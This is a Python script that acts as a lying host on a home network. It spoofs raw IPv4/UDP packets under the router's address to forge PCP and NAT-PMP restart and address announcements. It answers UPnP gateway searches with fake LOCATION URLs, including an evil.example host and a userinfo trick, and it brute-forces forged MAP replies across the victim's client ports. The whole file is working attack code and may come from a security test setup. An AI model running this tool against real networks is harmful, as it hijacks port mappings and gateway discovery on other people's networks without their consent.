"""A host of the home network that lies: run it there with its own address, the router's and the victim's.

It announces restarts and new addresses (PCP, NAT-PMP) from its own address and under the router's, answers
searches for a router with its own description and with dead places on the router, sprays answers to MAP requests over
the ports that clients use, and counts who asks its web server. Answers of NAT-PMP come from its own address alone: the
protocol has no nonce, and one under the router's name that meets the port of a pending request is as good as true
(RFC 6886 §9). A line of JSON with the counts comes at the end.
"""
import json
import socket
import struct
import sys
import threading
import time

own, router, victim, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
ends = time.monotonic() + seconds
fetched = 0
sent = 0

pcp_announce = struct.pack("!BBBBII12x", 2, 0x80, 0, 0, 0, 0)
natpmp_notice = struct.pack("!BBHI4s", 0, 128, 0, 0, socket.inet_aton("6.6.6.6"))
mapped = socket.inet_pton(socket.AF_INET6, "::ffff:6.6.6.6")
map_answer = struct.pack("!BBBBII12x", 2, 0x81, 0, 0, 7200, 0) + struct.pack(
    "!12sB3xHH16s", b"\0" * 12, 6, 8080, 6666, mapped
)
natpmp_map = struct.pack("!BBHIHHI", 0, 130, 0, 0, 8080, 6666, 7200)


def udp_from(address, port, payload, to):
    """A datagram with a source address that need not be ours: IPv4 and UDP headers by hand."""
    length = 8 + len(payload)
    udp = struct.pack("!HHHH", port, to[1], length, 0) + payload
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45, 0, 20 + length, 0, 0, 64, 17, 0,
        socket.inet_aton(address), socket.inet_aton(to[0]),
    )
    raw.sendto(ip + udp, (to[0], 0))


def answer_searches():
    global sent
    heard = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    heard.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    heard.bind(("", 1900))
    group = socket.inet_aton("239.255.255.250") + socket.inet_aton(own)
    heard.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
    heard.settimeout(0.2)
    while time.monotonic() < ends:
        try:
            data, asker = heard.recvfrom(4096)
        except TimeoutError:
            continue
        if asker[0] == own or not data.startswith(b"M-SEARCH"):
            continue
        dead = [f"{router}:{8000 + number}" for number in range(16)]
        for host in (*dead, own + ":8000", "evil.example:8000", f"{router}@{own}:8000"):
            answer = (
                f"HTTP/1.1 200 OK\r\nLOCATION: http://{host}/root.xml\r\n"
                "ST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\nUSN: uuid:x\r\nEXT:\r\n\r\n"
            ).encode()
            heard.sendto(answer, asker)
            # Under the router's name it leads to the liar all the same.
            udp_from(router, 1900, answer, asker)
            sent += 2


def serve_pages():
    global fetched
    server = socket.create_server((own, 8000))
    server.settimeout(0.2)
    while time.monotonic() < ends:
        try:
            client, _ = server.accept()
        except TimeoutError:
            continue
        fetched += 1
        client.close()


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
mine = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
mine.bind((own, 5351))
for sender in (mine, raw):
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
threads = [threading.Thread(target=answer_searches), threading.Thread(target=serve_pages)]
for thread in threads:
    thread.start()
print("ready", flush=True)
port = 32768
while time.monotonic() < ends:
    for payload in (pcp_announce, natpmp_notice):
        for to in ("224.0.0.1", victim):
            mine.sendto(payload, (to, 5350))
            udp_from(router, 5351, payload, (to, 5350))
            sent += 2
    for _ in range(200):
        # Whose nonce and port nobody told us: by chance alone.
        mine.sendto(map_answer, (victim, port))
        mine.sendto(natpmp_map, (victim, port))
        udp_from(router, 5351, map_answer, (victim, port))
        port = 32768 if port >= 60999 else port + 1
        sent += 3
    time.sleep(0.005)
for thread in threads:
    thread.join()
print(json.dumps({"fetched": fetched, "sent": sent}), flush=True)
